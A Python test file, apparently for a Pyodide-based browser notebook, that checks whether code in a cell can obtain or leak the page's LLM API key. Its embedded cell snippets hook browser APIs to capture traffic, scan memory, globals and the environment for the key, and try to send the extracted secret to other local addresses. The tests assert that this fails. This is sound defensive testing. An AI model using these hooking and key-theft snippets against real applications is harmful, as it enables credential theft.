"""Code in a cell that looks for the page's keys, in all that it can reach."""

from __future__ import annotations

import json

from tests.support.browser.demo import (
    KEY,
    add_code,
    add_prompt,
    choose_server,
    run,
)
from tests.support.browser.fixtures import OpenPage
from tests.support.server.llm_server import LLMServer

# Listens to all that crosses the worker's borders and to all that a request is made of. It comes
# before the key, so that it sees it arrive, too.
LISTEN = """
from pyodide.code import run_js
heard = run_js('''() => {
  const heard = globalThis.heard = [];
  const decoder = new TextDecoder("latin1");
  const decode = decoder.decode.bind(decoder);
  const note = (value) => {
    let text = "";
    try {
      if (ArrayBuffer.isView(value)) text = decode(value);
      else text = typeof value === "string" ? value : JSON.stringify(value) ?? "";
    } catch {}
    if (value instanceof Headers) text = JSON.stringify([...value]);
    if (value instanceof Request) text = value.url + JSON.stringify([...value.headers]);
    heard.push(text);
  };
  const wrap = (owner, name) => {
    const own = owner[name];
    owner[name] = function (...args) {
      [...args, this].forEach(note);
      return own.apply(this, args);
    };
  };
  for (const [owner, ...names] of [
    [globalThis, "fetch", "postMessage", "btoa"], [MessagePort.prototype, "postMessage"],
    [Headers.prototype, "set", "append", "get"], [Promise.prototype, "then"],
    [Map.prototype, "get", "set"], [Object, "fromEntries", "entries"], [JSON, "parse"],
    [String.prototype, "replace", "replaceAll"], [Array.prototype, "push", "join"],
    [TextDecoder.prototype, "decode"], [Response.prototype, "text", "json"],
  ]) for (const name of names) if (name !== "push") wrap(owner, name);
  const OwnRequest = Request;
  globalThis.Request = function (...args) { args.forEach(note); return new OwnRequest(...args); };
  addEventListener("message", ({ data }) => note(data));
  return heard;
}''')()
import pyodide.http
own_pyfetch = pyodide.http.pyfetch
def thief(url, **options):
    heard.push(str(url) + repr(options))
    return own_pyfetch(url, **options)
pyodide.http.pyfetch = thief
import runt_pyodide.llm.transport.pyfetch as transport
transport.pyfetch = thief
control = "con" + "trol-" + "x" * 9
"""

# Looks into all memory of Python, all of its objects, its environment, and all that JavaScript's
# global object leads to. It is given the key backwards, so that it does not find itself.
SEARCH = """
import gc, os, json, pyodide_js
from runt_pyodide import ask
found = run_js('''(module, heard, backwards) => backwards.map((text) => {
  const whole = [...text].reverse().join("");
  const memory = module.HEAPU8;
  const places = [];
  const decoder = new TextDecoder("latin1");
  const piece = 2 ** 24;
  for (let at = 0; at < memory.length; at += piece) {
    const read = decoder.decode(memory.subarray(at, at + piece + whole.length));
    if (read.includes(whole)) { places.push("memory"); break; }
  }
  if (heard.some((said) => said.includes(whole))) places.push("heard");
  const seen = new Set();
  const walk = (value, depth, path) => {
    if (typeof value === "string" && value.includes(whole)) places.push(path);
    if (value === null || !["object", "function"].includes(typeof value)) return;
    if (seen.has(value) || depth > 6 || value === memory.buffer || value === heard) return;
    if (ArrayBuffer.isView(value) || value instanceof WebAssembly.Memory) return;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) {
      let item;
      try { item = value[key]; } catch { continue; }
      if (item instanceof Promise) item.catch(() => {});
      walk(item, depth + 1, `${path}.${String(key)}`);
    }
  };
  walk(globalThis, 0, "globalThis");
  return places;
})''')(pyodide_js._module, heard, run_js("(...args) => args")(*BACKWARDS)).to_py()
dump = repr(ask.session.config.model_dump()) + ask.session.config.model_dump_json()
dump += repr(dict(os.environ))
for one in gc.get_objects():
    if type(one).__name__ in ("SecretStr", "ServiceClient", "OpenAISettings", "Bridge"):
        dump += repr(getattr(one, "__dict__", "")) + repr(one)
        dump += one.get_secret_value() if hasattr(one, "get_secret_value") else ""
found.append(["dump"] * sum(text[::-1] in dump for text in BACKWARDS))
print(json.dumps(found))
"""


def test_no_code_of_a_cell_gets_a_key(open_page: OpenPage, llm_server: LLMServer) -> None:
    llm_server.api_key = KEY
    page = open_page()
    run(add_code(page, LISTEN))
    choose_server(page, llm_server.base_url)
    run(add_prompt(page, "Hello"))
    assert llm_server.exchanges[-1].request.headers["authorization"] == f"Bearer {KEY}"
    backwards = [KEY[::-1], "x" * 9 + "-lortnoc"]
    search = add_code(page, SEARCH.replace("BACKWARDS", repr(backwards)))
    run(search)
    found = json.loads(search.get_by_test_id("outputs").inner_text())
    assert "memory" in found[1]  # it finds what there is
    assert (found[0], found[2]) == ([], [])


def test_a_key_is_sent_nowhere_else_whoever_asks(
    open_page: OpenPage, llm_server: LLMServer
) -> None:
    llm_server.api_key = KEY
    page = open_page()
    choose_server(page, llm_server.base_url)
    other = f"http://127.0.0.1:{llm_server.port + 1}/v1/models"
    thief = add_code(
        page,
        f"""
import gc
from runt_pyodide import ask
[settings] = [one for one in ask.session.config.providers.values() if one.type == "openai"]
token = settings.api_key.get_secret_value()
[host] = [one._host for one in gc.get_objects() if type(one).__name__ == "Bridge"]
import js
from pyodide.ffi import to_js
for url in ("{other}", "{llm_server.base_url.replace("127.0.0.1", "localhost")}/models"):
    options = to_js({{"headers": {{"X-Key": token}}}}, dict_converter=js.Object.fromEntries)
    try:
        await host.fetch(url, options)
    except Exception as error:
        print(str(error))
""",
    )
    run(thief)
    said = thief.get_by_test_id("outputs").inner_text()
    assert said.count("it was given for that address alone") == 2
    assert all("x-key" not in one.headers for one in llm_server.requests)
